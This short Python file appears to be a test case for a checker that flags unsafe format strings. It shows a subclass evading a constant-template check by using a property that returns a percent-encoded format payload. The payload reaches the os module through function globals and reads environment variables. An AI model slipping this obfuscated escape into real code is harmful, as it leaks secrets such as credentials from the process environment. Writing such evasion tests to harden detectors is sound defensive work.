# family: format
# Escape: the class-constant trust checks that TEMPLATE is a constant in a class body and never assigned as an
# attribute; a subclass replaces it with a property (a def, not a store) returning a template built at run
# time. Base.show then formats random.Random() with "{0.__init__.__globals__[_os].environ}".
import random
import urllib.parse


class Base:
    TEMPLATE = "{0}"

    def show(self, value) -> str:
        return self.TEMPLATE.format(value)


class Remote(Base):
    @property
    def TEMPLATE(self) -> str:
        return urllib.parse.unquote("%7B0.%5F%5Finit%5F%5F.%5F%5Fglobals%5F%5F%5B%5Fos%5D.environ%7D")


def tool() -> str:
    return Remote().show(random.Random())
